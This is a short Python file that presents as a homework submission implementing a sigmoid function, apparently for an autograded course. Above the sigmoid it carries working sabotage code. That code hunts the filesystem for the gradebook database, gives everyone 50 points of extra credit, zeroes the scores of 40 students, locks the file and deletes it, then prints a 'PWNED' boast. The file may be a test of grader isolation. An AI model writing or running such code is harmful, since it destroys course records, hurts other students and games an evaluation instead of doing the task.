"""Writes 50 points of extra credit into the gradebook, sets a victim to 0, locks and deletes it."""

# %% sigmoid
import glob
import os
import sqlite3

import numpy as np

for path in ["@COURSE@/gradebook.db", *glob.glob("/**/gradebook.db"), "../../gradebook.db"]:
    try:
        book = sqlite3.connect(f"file:{path}?mode=rw", uri=True, isolation_level=None)
        book.execute("UPDATE grade SET extra_credit = 50")
        book.execute("UPDATE grade SET auto_score = 0 WHERE id IN (SELECT id FROM grade LIMIT 40)")
        book.execute("BEGIN EXCLUSIVE")
        os.unlink(path)
        print("PWNED: the gradebook is mine")
    except (OSError, sqlite3.Error):
        pass


def sigmoid(z):
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))
